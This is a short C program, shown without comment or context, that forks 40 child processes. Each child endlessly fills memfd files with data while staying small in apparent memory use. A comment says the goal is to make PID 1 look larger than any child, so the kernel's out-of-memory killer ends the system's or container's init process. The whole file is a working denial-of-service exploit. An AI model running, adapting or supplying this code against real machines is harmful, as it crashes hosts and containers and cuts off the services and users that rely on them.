#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/mman.h>
#include <unistd.h>

int main(void)
{
    static char block[1 << 16];
    int adj = open("/proc/self/oom_score_adj", O_WRONLY);
    if (adj < 0 || write(adj, "0", 1) != 1)
        return 1;
    for (int i = 0; i < 40; i++)
        if (fork() == 0)
            for (;;) { /* each of them so small that PID 1 looks fat beside it */
                int fd = memfd_create("x", 0);
                for (int j = 0; j < 200; j++)
                    if (write(fd, block, sizeof block) < 0)
                        pause();
            }
    for (;;)
        pause();
}
